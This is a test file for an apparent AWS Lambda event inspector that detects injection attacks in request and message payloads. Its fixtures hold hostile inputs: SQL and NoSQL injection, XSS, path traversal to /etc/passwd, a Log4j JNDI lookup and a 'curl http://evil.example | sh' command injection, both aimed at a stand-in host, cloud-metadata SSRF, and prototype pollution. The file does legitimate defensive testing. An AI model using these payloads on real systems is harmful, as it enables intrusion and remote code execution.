// The inspector's trigger recognition, extraction (which parts of each event are scanned, under which path),
// decoding layers and bounds. Real event shapes as AWS delivers them; no mocks.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import type * as DecodeModule from '../../src/inspector/decode.js';
import type * as InspectorModule from '../../src/inspector/index.js';

// A Log4j lookup opening, spelled so that it is not a template literal placeholder.
const JNDI = '$' + '{jndi:';
const { inspectEvent } = require('../../../dist/inspector/index.js') as typeof InspectorModule;
const { decodedVariants, percentDecode, decodeHtmlEntities, decodeEscapes } =
  require('../../../dist/inspector/decode.js') as typeof DecodeModule;

function found(event: unknown, options?: InspectorModule.InspectOptions): string[] {
  return inspectEvent(event, options)
    .attacks.map((attack) => `${attack.class}@${attack.path}`)
    .sort();
}

const REALISTIC_HEADERS = {
  accept: 'text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8',
  'accept-encoding': 'gzip, deflate, br',
  'accept-language': 'en-GB,en;q=0.9,fr;q=0.8',
  'content-type': 'application/json',
  cookie: 'session=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc; theme=dark; id=42',
  'user-agent': 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36',
  referer: 'https://www.example.com/products?page=2&sort=price',
  'x-forwarded-for': '203.0.113.7, 10.0.0.12',
  'x-amzn-trace-id': 'Root=1-65a1b2c3-1234567890abcdef12345678',
  host: 'api.example.com',
};

test('API Gateway v1: headers, query, path parameters and JSON body are scanned by path; realistic headers are clean', () => {
  const event = {
    resource: '/users/{id}',
    path: '/users/42',
    httpMethod: 'POST',
    headers: REALISTIC_HEADERS,
    multiValueHeaders: { accept: ['*/*'] },
    queryStringParameters: { sort: 'name', filter: "' OR 1=1--" },
    multiValueQueryStringParameters: { sort: ['name'] },
    pathParameters: { id: '42' },
    requestContext: { stage: 'prod', requestId: "'; DROP TABLE x; --", httpMethod: 'POST' },
    body: JSON.stringify({
      name: "O'Brien",
      profile: { bio: '<script>alert(1)</script>' },
      tags: ['a', '../../../etc/passwd'],
    }),
    isBase64Encoded: false,
  };
  const result = inspectEvent(event);
  assert.equal(result.trigger, 'apigateway-v1');
  // requestContext is written by API Gateway, not the client: not scanned.
  assert.deepEqual(found(event), [
    'sqli@queryStringParameters.filter',
    'traversal@body.tags[1]',
    'xss@body.profile.bio',
  ]);
  const clean = { ...event, queryStringParameters: { sort: 'name' }, body: JSON.stringify({ name: "O'Brien" }) };
  assert.deepEqual(found(clean), []);
});

test('API Gateway v2 and function URLs are told apart; cookies and rawPath are scanned; base64 bodies are decoded', () => {
  const base = {
    version: '2.0',
    rawPath: '/files/..%2f..%2f..%2fetc%2fshadow',
    rawQueryString: '',
    cookies: ['theme=dark', `x=${JNDI}ldap://evil.example/a}`],
    headers: REALISTIC_HEADERS,
    body: Buffer.from('{"url":"http://0x7f000001/admin"}').toString('base64'),
    isBase64Encoded: true,
  };
  const v2 = { ...base, requestContext: { domainName: 'abc123.execute-api.eu-west-1.amazonaws.com', http: {} } };
  const url = { ...base, requestContext: { domainName: 'xyz.lambda-url.eu-west-1.on.aws', http: {} } };
  assert.equal(inspectEvent(v2).trigger, 'apigateway-v2');
  assert.equal(inspectEvent(url).trigger, 'function-url');
  assert.deepEqual(found(url), ['ssrf@body.url', 'template@cookies[1]', 'traversal@rawPath']);
  // The hint overrides recognition.
  assert.equal(inspectEvent(v2, { trigger: 'function-url' }).trigger, 'function-url');
});

test('ALB: query values arrive percent-encoded and are decoded; form bodies are split into keys and values', () => {
  const event = {
    requestContext: { elb: { targetGroupArn: 'arn:aws:elasticloadbalancing:…' } },
    httpMethod: 'POST',
    path: '/login',
    queryStringParameters: { next: '%2Fhome', q: '%3Csvg%20onload%3Dalert(1)%3E' },
    headers: { 'content-type': 'application/x-www-form-urlencoded' },
    body: 'user=admin&password%5B%24ne%5D=x&__proto__%5BisAdmin%5D=1',
    isBase64Encoded: false,
  };
  assert.equal(inspectEvent(event).trigger, 'alb');
  assert.deepEqual(found(event), [
    'nosqli@body.password[$ne]',
    'prototype-pollution@body.__proto__[isAdmin]',
    'xss@queryStringParameters.q',
  ]);
});

test('SQS and SNS: message bodies (JSON parsed, even nested in strings) and message attributes', () => {
  const sqs = {
    Records: [
      { eventSource: 'aws:sqs', messageId: 'a', body: '{"order":{"id":"1","note":"ok"}}' },
      {
        eventSource: 'aws:sqs',
        messageId: 'b',
        body: JSON.stringify({ payload: JSON.stringify({ filter: { $where: 'sleep(100)' } }) }),
        messageAttributes: { origin: { stringValue: '; curl http://evil.example | sh', dataType: 'String' } },
      },
    ],
  };
  assert.equal(inspectEvent(sqs).trigger, 'sqs');
  assert.deepEqual(found(sqs), [
    'cmdi@Records[1].messageAttributes.origin',
    'nosqli@Records[1].body.payload.filter.$where',
  ]);
  const sns = {
    Records: [
      {
        EventSource: 'aws:sns',
        Sns: { Subject: '{{7*7}}', Message: 'hello', MessageAttributes: { a: { Type: 'String', Value: '`id`' } } },
      },
    ],
  };
  assert.equal(inspectEvent(sns).trigger, 'sns');
  assert.deepEqual(found(sns), ['cmdi@Records[0].Sns.MessageAttributes.a', 'template@Records[0].Sns.Subject']);
});

test('S3: object keys are form-decoded (+ is a space) before scanning; bucket names and ARNs are not input', () => {
  const event = {
    Records: [
      { eventSource: 'aws:s3', s3: { bucket: { name: 'b' }, object: { key: 'reports/Q1+2024/O%27Brien+final.pdf' } } },
      { eventSource: 'aws:s3', s3: { bucket: { name: 'b' }, object: { key: 'a/..%2F..%2F..%2Fetc%2Fpasswd' } } },
    ],
  };
  assert.equal(inspectEvent(event).trigger, 's3');
  assert.deepEqual(found(event), ['traversal@Records[1].s3.object.key']);
});

test('EventBridge detail, DynamoDB typed images and Kinesis base64 data', () => {
  const bridge = { version: '0', 'detail-type': 'x', source: 'app', detail: { user: { $ne: null }, ok: 'fine' } };
  assert.equal(inspectEvent(bridge).trigger, 'eventbridge');
  assert.deepEqual(found(bridge), ['nosqli@detail.user.$ne']);

  const dynamo = {
    Records: [
      {
        eventSource: 'aws:dynamodb',
        dynamodb: {
          Keys: { pk: { S: 'user#1' } },
          NewImage: {
            pk: { S: 'user#1' },
            tags: { SS: ['a', "1'; DROP TABLE users;--"] },
            nested: { M: { __proto__: { M: { admin: { BOOL: true } } } } },
            list: { L: [{ S: 'http://169.254.169.254/latest/meta-data/' }, { N: '5' }] },
          },
        },
      },
    ],
  };
  // The literal above puts __proto__ on the object's prototype; the real stream delivers it as JSON.
  const delivered = JSON.parse(
    JSON.stringify(dynamo).replace('"nested":{"M":{}}', '"nested":{"M":{"__proto__":{"M":{}}}}'),
  );
  assert.equal(inspectEvent(delivered).trigger, 'dynamodb');
  assert.deepEqual(found(delivered), [
    'prototype-pollution@Records[0].dynamodb.NewImage.nested.__proto__',
    'sqli@Records[0].dynamodb.NewImage.tags[1]',
    'ssrf@Records[0].dynamodb.NewImage.list[0]',
  ]);

  const kinesis = {
    Records: [
      {
        eventSource: 'aws:kinesis',
        kinesis: { data: Buffer.from('{"q":"1 UNION SELECT pw FROM u"}').toString('base64') },
      },
    ],
  };
  assert.equal(inspectEvent(kinesis).trigger, 'kinesis');
  assert.deepEqual(found(kinesis), ['sqli@Records[0].kinesis.data.q']);
});

test('generic fallback walks the whole event', () => {
  assert.equal(inspectEvent({ a: { b: ['x', 'javascript:alert(1)'] } }).trigger, 'generic');
  assert.deepEqual(found({ a: { b: ['x', 'javascript:alert(1)'] } }), ['xss@a.b[1]']);
  assert.deepEqual(found(`plain string ${JNDI}ldap://x}`), ['template@']);
  assert.deepEqual(found(null), []);
  assert.deepEqual(found(42), []);
});

test('bounds: long fields, deep nesting and too many fields are reported as oversize, not scanned', () => {
  const long = `${'a'.repeat(200)}' OR 1=1--`;
  assert.deepEqual(found({ q: long }, { maxFieldLength: 100 }), ['oversize@q']);
  let deep: unknown = "' OR 1=1--";
  for (let i = 0; i < 100; i++) deep = { x: deep };
  assert.deepEqual(
    found({ d: deep }).filter((f) => f.startsWith('oversize')),
    [`oversize@d${'.x'.repeat(64)}`],
  );
  const many = Object.fromEntries(Array.from({ length: 50 }, (_, i) => [`k${i}`, 'v']));
  assert.deepEqual(found(many, { maxFields: 10 }), ['oversize@k10']);
});

test('decoding layers: repeated percent-decoding, overlong UTF-8, entities, escapes, all bounded', () => {
  assert.equal(percentDecode('%2e%2e%2f'), '../');
  assert.equal(percentDecode('..%c0%af'), '../');
  assert.equal(percentDecode('%zz%2'), '%zz%2');
  assert.equal(percentDecode('%E2%82%AC'), '€');
  assert.deepEqual(decodedVariants('%25252e'), ['%25252e', '%252e', '%2e', '.']);
  // Three percent rounds per pass: a fourth level of encoding stays encoded in the first pass, then the second.
  assert.ok(decodedVariants('%2525252e').length <= 9);
  assert.equal(decodeHtmlEntities('&lt;a&gt; &#60;&#x3c; &amp;amp; &unknown;'), '<a> << &amp; &unknown;');
  assert.equal(decodeEscapes('\\u003cscript\\x3e \\u{1F600} \\q'), '<script> 😀 \\q');
});

test('findings carry class, path, fragment and confidence', () => {
  const { attacks } = inspectEvent({ q: "admin'--" });
  assert.equal(attacks.length, 1);
  assert.deepEqual(
    { class: attacks[0]!.class, path: attacks[0]!.path, confidence: attacks[0]!.confidence },
    { class: 'sqli', path: 'q', confidence: 'medium' },
  );
  assert.ok(attacks[0]!.fragment.includes("'--"));
});
